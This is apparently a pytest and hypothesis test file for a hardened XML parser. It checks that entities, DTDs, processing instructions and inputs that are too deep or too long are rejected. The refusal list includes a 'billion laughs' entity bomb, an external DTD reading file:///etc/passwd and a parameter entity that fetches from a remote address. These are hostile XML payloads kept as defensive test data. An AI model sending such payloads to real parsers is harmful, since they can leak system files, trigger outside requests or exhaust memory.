"""Hostile XML: what may be in a frame, what may not, and how much of it."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from rainbow_probe.protocols.xml import MOST_BYTES, MOST_DEPTH, Element, HostileError, parse
from tests.test_stun import FUZZ

LAUGHS = '<!DOCTYPE a [<!ENTITY b "ha"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]><a>&c;&c;&c;&c;</a>'


def test_an_element() -> None:
    """Name, namespace, attributes, text and children; prefixes do not matter."""
    expected = Element(
        namespace="urn:a",
        name="x",
        attributes={"k": "v", "urn:b q": "1"},
        text="one",
        children=(Element(namespace="urn:b", name="y", attributes={}, text="two & three"),),
    )
    assert parse('<x xmlns="urn:a" xmlns:p="urn:b" k="v" p:q="1">one<p:y>two &amp; three</p:y></x>') == expected
    assert parse("<z:x z:k='' k='v' o:q='1' xmlns:z='urn:a' xmlns:o='urn:b'/>").attributes["k"] == "v"


def test_children_are_found_by_namespace() -> None:
    """In their order."""
    element = parse("<x xmlns:a='urn:a'><a:one/><two/><a:three/></x>")
    assert [child.name for child in element.find("urn:a")] == ["one", "three"]
    assert [child.name for child in element.find("")] == ["two"]


@pytest.mark.parametrize(
    "text",
    [
        LAUGHS,
        "<!DOCTYPE a><a/>",
        '<!DOCTYPE a SYSTEM "file:///etc/passwd"><a/>',
        '<!DOCTYPE a [<!ENTITY % p SYSTEM "http://198.51.100.1/x">%p;]><a/>',
        "<?php die ?><a/>",
        "<a><?x y?></a>",
        "<a>&unknown;</a>",
        "<a>&#0;</a>",
        "<a>" * (MOST_DEPTH + 1) + "</a>" * (MOST_DEPTH + 1),
        f"<a>{'x' * MOST_BYTES}</a>",
        f"<a>{'ü' * (MOST_BYTES // 2)}</a>",
        "",
        "   ",
        "text",
        "<a>",
        "<a/><b/>",
        "<a></b>",
        "<p:a/>",
        "<a k='1' k='2'/>",
        "<a>\ud800</a>",
        "<a>\x00</a>",
        "<stream:stream xmlns:stream='http://etherx.jabber.org/streams'>",
    ],
)
def test_what_is_refused(text: str) -> None:
    """Entities, DTDs, processing instructions; too deep, too long, unbalanced, no XML at all."""
    with pytest.raises(HostileError):
        parse(text)


def test_what_is_just_allowed() -> None:
    """The bounds are where they are said to be."""
    assert parse("<a>" * MOST_DEPTH + "</a>" * MOST_DEPTH).name == "a"
    assert len(parse(f"<a>{'x' * (MOST_BYTES - 7)}</a>").text) == MOST_BYTES - 7


def test_the_encoding_is_ours() -> None:
    """A declaration that says something else changes nothing."""
    assert parse('<?xml version="1.0" encoding="utf-16"?><a>ü</a>').text == "ü"


def test_comments_say_nothing() -> None:
    """They are skipped."""
    assert parse("<a><!-- <b/> -->x</a>") == Element(namespace="", name="a", attributes={}, text="x")


@FUZZ
@given(st.text(max_size=200))
def test_any_text_is_an_element_or_hostile(text: str) -> None:
    """Nothing else comes out, bare or inside an element."""
    for candidate in (text, f"<a>{text}</a>", f"<a k='{text}'/>"):
        try:
            element = parse(candidate)
        except HostileError:
            continue
        assert element.name


@FUZZ
@given(st.recursive(st.just("<a/>"), lambda inner: st.lists(inner, max_size=3).map(lambda c: f"<b>{''.join(c)}</b>")))
def test_trees_keep_their_shape(text: str) -> None:
    """Every element that was written is there again."""
    assert count(parse(text)) == text.count("<a/>") + text.count("<b>")


def count(element: Element) -> int:
    """Count the elements of a tree."""
    return 1 + sum(count(child) for child in element.children)
